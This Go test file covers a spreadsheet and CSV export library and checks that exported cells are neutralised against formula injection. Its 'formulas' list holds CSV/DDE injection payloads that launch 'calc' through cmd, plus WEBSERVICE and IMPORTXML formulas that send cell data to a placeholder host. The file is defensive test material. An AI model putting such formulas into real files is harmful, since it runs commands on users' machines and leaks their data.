package tabular

import (
	"archive/zip"
	"bytes"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"
	"pgregory.net/rapid"
)

// formulas are cells that make a spreadsheet calculate, call or fetch.
var formulas = []string{
	"=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "=HYPERLINK(\"http://x\",\"y\")", "\t=1+1", "\r=1+1", "\n=1+1",
	"=IMPORTXML(CONCAT(\"\"http://x?v=\"\", CONCATENATE(A2:E2)), \"\"//a/a10\"\")", "=WEBSERVICE(\"http://x\")", "'=1+1", "''=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "@x", "+49 89 1234", "-",
	"＝1+1", "＋1", "－1", "＠x", "=\"0123\"", "=A1;B1", "=1,2", "=\"a\"&\"b\"", "='x'!A1", "=1+1\";=1+1", "=1+1\n=1+1", "'=\"0123\"",
}

var exportColumns = []Column{{Key: "id", Label: "ID"}, {Key: "name", Label: "Name"}, {Key: "custom.region", Label: "Region"}}

func writeAll(t testing.TB, w Writer, columns []Column, rows [][]Cell) {
	t.Helper()
	require.NoError(t, w.WriteHeader(columns))
	for _, r := range rows {
		require.NoError(t, w.WriteRow(r))
	}
	require.NoError(t, w.Close())
}

func TestFormulasSurviveEveryFormatAsText(t *testing.T) {
	t.Parallel()
	var want [][]string
	var table [][]Cell
	for i, f := range formulas {
		id := fmt.Sprintf("con_%d", i)
		want = append(want, []string{id, f, "x"})
		table = append(table, []Cell{Text(id), Text(f), Text("x")})
	}
	for name, write := range map[string]func(w io.Writer) Writer{
		"csv": func(w io.Writer) Writer { return NewCSVWriter(w, CSVOptions{}) },
		"csv excel": func(w io.Writer) Writer {
			return NewCSVWriter(w, CSVOptions{Delimiter: ';', BOM: true, DecimalComma: true})
		},
		"tsv":   func(w io.Writer) Writer { return NewCSVWriter(w, CSVOptions{Delimiter: '\t'}) },
		"jsonl": func(w io.Writer) Writer { return NewJSONWriter(w) },
		"xlsx": func(w io.Writer) Writer {
			x, err := NewXLSXWriter(w, XLSXOptions{})
			require.NoError(t, err)
			return x
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			var b bytes.Buffer
			writeAll(t, write(&b), exportColumns, table)
			got, err := openBytes(t, "x", b.Bytes(), Options{})
			require.NoError(t, err)
			all := rows(t, got)
			require.Equal(t, want, cells(all))
			require.Empty(t, reasons(all))
			if got.Format != CSV {
				return
			}
			// What the file holds begins with none of the characters, read without our own unwrapping.
			raw := scanText(bytes.TrimPrefix(b.Bytes(), []byte(utf8BOM)), dialect{delim: got.Delimiter[0], quote: '"'})
			for {
				rec, err := raw.next()
				if errors.Is(err, io.EOF) {
					break
				}
				require.NoError(t, err)
				for _, c := range rec.cells {
					require.False(t, strings.HasPrefix(c, "=") || strings.HasPrefix(c, "+") || strings.HasPrefix(c, "-") || strings.HasPrefix(c, "@") || strings.HasPrefix(c, "\t") || strings.HasPrefix(c, "\r"), "%q", c)
				}
			}
		})
	}
}

func TestTypedCells(t *testing.T) {
	t.Parallel()
	moment := time.Date(2024, 1, 31, 14, 30, 5, 0, time.FixedZone("", 3600))
	columns := []Column{{Key: "n", Label: "n"}, {Key: "d", Label: "d"}, {Key: "t", Label: "t"}, {Key: "b", Label: "b"}, {Key: "l", Label: "l"}, {Key: "e", Label: "e"}}
	row := []Cell{Number("-1250.00"), Date(moment), DateTime(moment), Bool(true), List([]string{"a", "b"}), {}}

	var b bytes.Buffer
	writeAll(t, NewCSVWriter(&b, CSVOptions{}), columns, [][]Cell{row})
	require.Equal(t, "n,d,t,b,l,e\r\n-1250.00,2024-01-31,2024-01-31T14:30:05+01:00,true,a; b,\r\n", b.String())

	b.Reset()
	writeAll(t, NewCSVWriter(&b, CSVOptions{Delimiter: ';', DecimalComma: true, BOM: true}), columns, [][]Cell{row})
	require.Equal(t, "\ufeffn;d;t;b;l;e\r\n-1250,00;2024-01-31;2024-01-31T14:30:05+01:00;true;\"a; b\";\r\n", b.String())

	b.Reset()
	writeAll(t, NewCSVWriter(&b, CSVOptions{Raw: true}), []Column{{Label: "=x"}}, [][]Cell{{Text("=1")}, {Cell{}}, {Text(" x ")}})
	require.Equal(t, "=x\r\n=1\r\n\"\"\r\n\" x \"\r\n", b.String())

	b.Reset()
	writeAll(t, NewJSONWriter(&b), []Column{{Key: "a.x"}, {Key: "n"}, {Key: "a.y"}, {Key: "l"}, {Key: "d"}, {Key: "b"}, {Key: "e"}},
		[][]Cell{{Text("<ü>"), Number("-007.50"), Text("\u2028"), List([]string{"a", "b;c"}), Date(moment), Bool(false), {}}})
	//nolint:testifylint // the very bytes matter, not what they mean
	require.Equal(t, `{"a":{"x":"<ü>","y":"\u2028"},"n":-7.50,"l":["a","b;c"],"d":"2024-01-31","b":false,"e":null}`+"\n", b.String())

	b.Reset()
	x, err := NewXLSXWriter(&b, XLSXOptions{Sheet: "Meine/Liste: [1]*"})
	require.NoError(t, err)
	writeAll(t, x, columns, [][]Cell{row, {Number("12345678901234567890.5"), Date(time.Date(1850, 1, 2, 0, 0, 0, 0, time.UTC)), Text("2024"), Bool(false), List([]string{"a;b", "c"}), Number("oops")}})
	require.Zero(t, x.Altered())
	table, err := openBytes(t, "x.xlsx", b.Bytes(), Options{})
	require.NoError(t, err)
	require.Equal(t, "Meine Liste   1", table.Sheet)
	require.Equal(t, [][]string{
		{"-1250", "2024-01-31", "2024-01-31T14:30:05", "true", "a; b", ""},
		{"12345678901234567890.5", "1850-01-02", "2024", "false", "a;b ::: c", "oops"},
	}, cells(rows(t, table)))

	f, err := excelize.OpenReader(bytes.NewReader(b.Bytes()))
	require.NoError(t, err)
	defer func() { require.NoError(t, f.Close()) }()
	for at, want := range map[string]excelize.CellType{"A2": excelize.CellTypeUnset, "B2": excelize.CellTypeUnset, "D2": excelize.CellTypeBool, "E2": excelize.CellTypeInlineString, "A3": excelize.CellTypeInlineString, "C3": excelize.CellTypeInlineString} {
		typ, err := f.GetCellType(table.Sheet, at)
		require.NoError(t, err)
		require.Equal(t, want, typ, at)
	}
	panes, err := f.GetPanes(table.Sheet)
	require.NoError(t, err)
	require.True(t, panes.Freeze)
	require.Equal(t, 1, panes.YSplit)
	part := zipPart(t, b.Bytes(), "xl/worksheets/sheet1.xml")
	require.Contains(t, part, `<autoFilter ref="$A$1:$F$3"`)
}

func zipPart(t *testing.T, content []byte, name string) string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(content), int64(len(content)))
	require.NoError(t, err)
	f, err := z.Open(name)
	require.NoError(t, err)
	part, err := io.ReadAll(f)
	require.NoError(t, err)
	return string(part)
}

func TestWritersRefuseRowsThatDoNotFit(t *testing.T) {
	t.Parallel()
	x, err := NewXLSXWriter(io.Discard, XLSXOptions{})
	require.NoError(t, err)
	for _, w := range []Writer{NewCSVWriter(io.Discard, CSVOptions{}), NewJSONWriter(io.Discard), x} {
		require.NoError(t, w.WriteHeader([]Column{{Key: "a", Label: "a"}, {Key: "b", Label: "b"}}))
		require.ErrorContains(t, w.WriteRow([]Cell{Text("x")}), "row has 1 cells, header has 2")
		require.NoError(t, w.Close())
	}
	require.Error(t, NewCSVWriter(io.Discard, CSVOptions{}).WriteHeader(nil))
	require.Error(t, NewJSONWriter(io.Discard).WriteHeader([]Column{{Key: "a"}, {Key: "a"}}))
	x, err = NewXLSXWriter(io.Discard, XLSXOptions{})
	require.NoError(t, err)
	require.Error(t, x.Close())
}

func TestXLSXTextThatDoesNotFit(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	x, err := NewXLSXWriter(&b, XLSXOptions{})
	require.NoError(t, err)
	exact, over := strings.Repeat("ü", sheetChars), strings.Repeat("😀", sheetChars)
	writeAll(t, x, []Column{{Label: "id"}, {Label: "text"}}, [][]Cell{{Text("1"), Text(exact)}, {Text("2"), Text(over)}, {Text("3"), Text("a\x01b\x00")}, {Text("4"), Text("_x0041_ _x005F_ &<>\"'\r\n\t x ")}})
	require.Equal(t, 2, x.Altered())
	table, err := openBytes(t, "x.xlsx", b.Bytes(), Options{})
	require.NoError(t, err)
	all := cells(rows(t, table))
	require.Equal(t, exact, all[0][1])
	require.Equal(t, strings.Repeat("😀", (sheetChars-1)/2)+"…", all[1][1])
	require.Equal(t, "a\uFFFDb\uFFFD", all[2][1])
	require.Equal(t, "_x0041_ _x005F_ &<>\"'\r\n\t x ", all[3][1])
}

func TestXLSXGoesOnOnASecondSheet(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	dir := t.TempDir()
	x, err := NewXLSXWriter(&b, XLSXOptions{Sheet: "Contacts", TempDir: dir})
	require.NoError(t, err)
	require.Equal(t, 1048576, x.limit)
	x.limit = 101 // a header and a hundred rows
	var table [][]Cell
	for i := range 250 {
		table = append(table, []Cell{Number(fmt.Sprint(i)), Text("n")})
	}
	writeAll(t, x, []Column{{Label: "id"}, {Label: "name"}}, table)
	next := 0
	for i, name := range []string{"Contacts", "Contacts (2)", "Contacts (3)"} {
		got, err := openBytes(t, "x.xlsx", b.Bytes(), Options{Sheet: name})
		require.NoError(t, err)
		require.Equal(t, []string{"id", "name"}, got.Header)
		require.Contains(t, zipPart(t, b.Bytes(), fmt.Sprintf("xl/worksheets/sheet%d.xml", i+1)), "<autoFilter")
		for _, row := range rows(t, got) {
			require.Equal(t, fmt.Sprint(next), row.Cells[0])
			next++
		}
	}
	require.Equal(t, 250, next)
	left, err := os.ReadDir(dir)
	require.NoError(t, err)
	require.Empty(t, left)
}

// The workbook of many rows waits in a file, and not in memory.
func TestXLSXMemoryStaysFlat(t *testing.T) {
	dir := t.TempDir()
	before := heap()
	x, err := NewXLSXWriter(io.Discard, XLSXOptions{TempDir: dir})
	require.NoError(t, err)
	require.NoError(t, x.WriteHeader([]Column{{Label: "id"}, {Label: "text"}, {Label: "n"}}))
	random := rand.New(rand.NewPCG(1, 2))
	text := strings.Repeat("x", 300)
	most := uint64(0)
	for i := range 200_000 {
		require.NoError(t, x.WriteRow([]Cell{Number(fmt.Sprint(i)), Text(text[:100+random.IntN(200)]), Number(fmt.Sprint(random.Int32()))}))
		if i%40_000 == 39_999 {
			most = max(most, heap())
		}
	}
	left, err := os.ReadDir(dir)
	require.NoError(t, err)
	require.NotEmpty(t, left)
	require.Less(t, most-min(before, most), uint64(48<<20))
	require.NoError(t, x.Close())
	left, err = os.ReadDir(dir)
	require.NoError(t, err)
	require.Empty(t, left)
}

// Whatever is written is read back, when the reader is told the dialect.
func TestCSVRoundTrip(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(rt *rapid.T) {
		delim := rapid.SampledFrom([]byte{',', ';', '\t', '|'}).Draw(rt, "delimiter")
		width := rapid.IntRange(2, 5).Draw(rt, "width")
		text := rapid.OneOf(rapid.SampledFrom(formulas), rapid.StringOf(rapid.SampledFrom([]rune("aä\"',;\t|=\r\n-+@ 1\\"))), rapid.String()).
			Filter(func(s string) bool { return !strings.Contains(s, "\x00") })
		var columns []Column
		for i := range width {
			columns = append(columns, Column{Label: fmt.Sprintf("c%d", i)})
		}
		var want [][]string
		var table [][]Cell
		for i := range rapid.IntRange(1, 6).Draw(rt, "rows") {
			row := []string{fmt.Sprintf("id%d", i)}
			for range width - 1 {
				row = append(row, text.Draw(rt, "cell"))
			}
			out := make([]Cell, width)
			for i, c := range row {
				out[i] = Text(c)
			}
			want, table = append(want, row), append(table, out)
		}
		var b bytes.Buffer
		writeAll(t, NewCSVWriter(&b, CSVOptions{Delimiter: delim}), columns, table)
		got, err := openBytes(t, "x.csv", b.Bytes(), Options{Format: CSV, Delimiter: delim, Header: HeaderYes})
		require.NoError(t, err)
		all := rows(t, got)
		require.Equal(t, want, cells(all), "%q", b.String())
		require.NotContains(t, strings.Join(reasons(all), " "), "!")
	})
}

func TestErrorFileCanBeUploadedAgain(t *testing.T) {
	t.Parallel()
	header := []string{"Name", "PLZ", "Telefon"}
	failed := [][]string{{"Müller", "01067", "+49 89 1"}, {"=cmd", "x\ny", "4,98912E+11"}, {"short"}}
	for _, format := range []string{"csv", "xlsx"} {
		var b bytes.Buffer
		var w Writer = NewCSVWriter(&b, CSVOptions{Delimiter: ';', BOM: true})
		if format == "xlsx" {
			x, err := NewXLSXWriter(&b, XLSXOptions{})
			require.NoError(t, err)
			w = x
		}
		e, err := NewErrorFile(w, header)
		require.NoError(t, err)
		for _, row := range failed {
			require.NoError(t, e.Add(row, "Telefon: ungültig; bitte prüfen"))
		}
		require.NoError(t, e.Close())

		table, err := openBytes(t, "errors", b.Bytes(), Options{})
		require.NoError(t, err)
		require.Equal(t, header, table.Header)
		all := rows(t, table)
		require.Equal(t, [][]string{failed[0], failed[1], {"short", "", ""}}, cells(all))
		require.Equal(t, []string{ReasonScientificDamage + "!"}, reasons(all))
	}
}
